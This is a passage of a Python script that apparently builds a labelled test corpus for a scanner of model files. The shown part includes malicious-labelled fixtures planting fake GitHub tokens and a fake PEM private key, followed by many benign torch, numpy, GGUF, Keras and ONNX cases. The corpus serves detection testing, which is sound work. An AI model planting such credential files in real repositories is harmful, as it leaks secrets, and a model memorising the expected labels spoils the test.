    hf_folder(d)
    write(f"{d}/NOTES.txt", "push with " + _tok("gh" + "p_", 36) + "\n")


@case("secret-pem", True, "secrets", "PEM private key shipped next to the weights")
def _(d):
    hf_folder(d)
    body = _tok("MII", 61, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    write(f"{d}/signing.key", "-----BEGIN " + "PRIVATE KEY-----\n" + (body + "\n") * 4 + "-----END " + "PRIVATE KEY-----\n")


# --- benign -----------------------------------------------------------------

@case("ok-torch-state-dict", False, "benign", "PyTorch zip state dict (torch.save layout, protocol 2)")
def _(d):
    sd, blobs = state_dict(2, 16)
    torch_zip(f"{d}/pytorch_model.bin", torch_pickle(sd), blobs)


@case("ok-torch-parameters", False, "benign", "PyTorch zip of nn.Parameters (_rebuild_parameter), sharded HF naming")
def _(d):
    sd, blobs = state_dict(2, 8, parameters=True)
    torch_zip(f"{d}/pytorch_model-00001-of-00001.bin", torch_pickle(sd), blobs, prefix="pytorch_model-00001-of-00001")
    write(f"{d}/pytorch_model.bin.index.json", json.dumps({"metadata": {"total_size": 1024}, "weight_map": {"layers.0.weight": "pytorch_model-00001-of-00001.bin"}}))


@case("ok-torch-legacy", False, "benign", "legacy (pre-1.6) torch.save stream: magic, protocol, sys info, pickle, storage keys, raw data")
def _(d):
    sd, blobs = state_dict(1, 4)
    out = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += torch_pickle(sd, 2) + pickle.dumps(sorted(blobs), protocol=2)
    for k in sorted(blobs):
        out += struct.pack("<q", len(blobs[k]) // 4) + blobs[k]
    write(f"{d}/model.pth", out)


@case("ok-numpy-pickle-p2", False, "benign", "numpy array pickled with protocol 2 (_reconstruct + _codecs.encode)")
def _(d):
    import numpy as np

    write(f"{d}/array.pkl", pickle.dumps({"w": np.arange(12, dtype=np.float32).reshape(3, 4)}, protocol=2))


@case("ok-numpy-pickle-p4", False, "benign", "numpy arrays pickled with protocol 4")
def _(d):
    import numpy as np

    write(f"{d}/array.pkl", pickle.dumps([np.ones(3, dtype=np.float16), np.zeros((2, 2), dtype=np.int64)], protocol=4))


@case("ok-numpy-pickle-p5", False, "benign", "numpy array pickled with protocol 5 (out-of-band style _frombuffer)")
def _(d):
    import numpy as np

    write(f"{d}/array.pkl", pickle.dumps(np.linspace(0, 1, 16, dtype=np.float32), protocol=5))


@case("ok-npy", False, "benign", "numpy .npy float32 matrix")
def _(d):
    import numpy as np

    np.save(f"{d}/embeddings.npy", np.random.default_rng(0).standard_normal((64, 32)).astype(np.float32))


@case("ok-npz", False, "benign", "numpy .npz of several arrays, compressed")
def _(d):
    import numpy as np

    np.savez_compressed(f"{d}/arrays.npz", a=np.arange(10), b=np.eye(4, dtype=np.float32))


@case("ok-joblib", False, "benign", "joblib dump of a dict of numpy arrays")
def _(d):
    import joblib
    import numpy as np

    joblib.dump({"coef": np.arange(20, dtype=np.float64), "intercept": np.zeros(1)}, f"{d}/model.joblib")


@case("ok-joblib-zlib", False, "benign", "joblib dump, zlib-compressed")
def _(d):
    import joblib
    import numpy as np

    joblib.dump([np.ones((8, 8))], f"{d}/model.joblib", compress=3)


@case("ok-plain-pickle", False, "benign", "training metadata pickle: dicts, lists, strings, numbers, OrderedDict")
def _(d):
    meta = collections.OrderedDict(epoch=3, lr=3e-4, tags=["r1", "distill"], shape=(1, 2), ok=True, none=None)
    write(f"{d}/training_args.pkl", pickle.dumps(meta, protocol=4))


@case("ok-safetensors-hf-folder", False, "benign", "clean Hugging Face folder: config, generation config, tokenizer config with the R1 template, safetensors")
def _(d):
    hf_folder(d)
    write(f"{d}/tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {f"tok{i}": i for i in range(300)}, "merges": []}, "added_tokens": []}))
    write(f"{d}/README.md", "---\nlicense: mit\n---\n# tiny\n\nA DeepSeek-R1 distill for tests. Set `HF_TOKEN` to your token before pulling.\n")


@case("ok-hf-llama3-template", False, "benign", "HF folder whose chat template is Llama-3 style")
def _(d):
    hf_folder(d, tokenizer_config={"chat_template": LLAMA3_TEMPLATE})


@case("ok-hf-chatml-template-list", False, "benign", "HF folder with named chat templates (list form, ChatML)")
def _(d):
    hf_folder(d, tokenizer_config={"chat_template": [{"name": "default", "template": CHATML_TEMPLATE}, {"name": "r1", "template": R1_TEMPLATE}]})


@case("ok-gguf-r1-template", False, "benign", "GGUF with the DeepSeek-R1 chat template")
def _(d):
    gguf_file(f"{d}/model.gguf", R1_TEMPLATE)


@case("ok-gguf-llama3", False, "benign", "GGUF (llama arch) with a Llama-3 chat template")
def _(d):
    gguf_file(f"{d}/model.gguf", LLAMA3_TEMPLATE)


@case("ok-gguf-no-template", False, "benign", "GGUF (qwen2 arch) without a chat template")
def _(d):
    gguf_file(f"{d}/model.gguf", None, arch="qwen2")


@case("ok-keras", False, "benign", "Keras 3 .keras Sequential of Dense layers")
def _(d):
    keras_zip(f"{d}/model.keras", [DENSE, dict(DENSE, config={"name": "dense_1", "units": 2, "activation": "softmax"})])


@case("ok-h5-weights", False, "benign", "HDF5 weights-only file (no model config)")
def _(d):
    import h5py
    import numpy as np

    with h5py.File(f"{d}/model.weights.h5", "w") as f:
        f.create_dataset("dense/kernel", data=np.ones((4, 4), dtype=np.float32))


@case("ok-h5-dense", False, "benign", "legacy Keras HDF5 model with a Dense-only model_config")
def _(d):
    import h5py

    cfg = {"class_name": "Sequential", "config": {"name": "seq", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2}}]}}
    with h5py.File(f"{d}/model.h5", "w") as f:
        f.attrs["model_config"] = json.dumps(cfg).encode()
        f.create_dataset("model_weights/d/kernel", data=[[0.0, 1.0]])


@case("ok-onnx", False, "benign", "ONNX model with inline initializers")
def _(d):
    onnx_model(f"{d}/model.onnx", None)


@case("ok-onnx-external", False, "benign", "ONNX model with external data in the same folder")
def _(d):
    onnx_model(f"{d}/model.onnx", "model.onnx.data")
    write(f"{d}/model.onnx.data", bytes(64))


@case("ok-gzip-json", False, "benign", "gzip-compressed JSON vocabulary")
def _(d):
    write(f"{d}/vocab.json.gz", gzip.compress(json.dumps({f"w{i}": i for i in range(100)}).encode()))


@case("ok-text-files", False, "benign", "licence, README and merges.txt")
def _(d):
    write(f"{d}/LICENSE", "MIT License\n\nCopyright (c) 2025 DeepSeek\n")
    write(f"{d}/merges.txt", "#version: 0.2\nĠ t\nĠ a\nh e\n")
    write(f"{d}/README.md", "# Model card\n\nUse `sk-...` placeholders, never real keys. Tokens look like hf_xxx.\n")


def build(out: str) -> dict:
    expected = {}
    seen = set()
    for name, malicious, klass, technique, builder in CASES:
        if name in seen:
            raise SystemExit(f"duplicate case {name}")
        seen.add(name)
        d = os.path.join(out, name)
        os.makedirs(d, exist_ok=True)
        builder(d)
        expected[name] = {"malicious": malicious, "class": klass, "technique": technique}
    with open(os.path.join(out, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
    return expected


if __name__ == "__main__":
    if len(sys.argv) != 2:
        raise SystemExit("usage: corpus.py OUTDIR")
    exp = build(sys.argv[1])
    bad = sum(v["malicious"] for v in exp.values())
    print(f"{len(exp)} cases: {bad} malicious, {len(exp) - bad} benign")
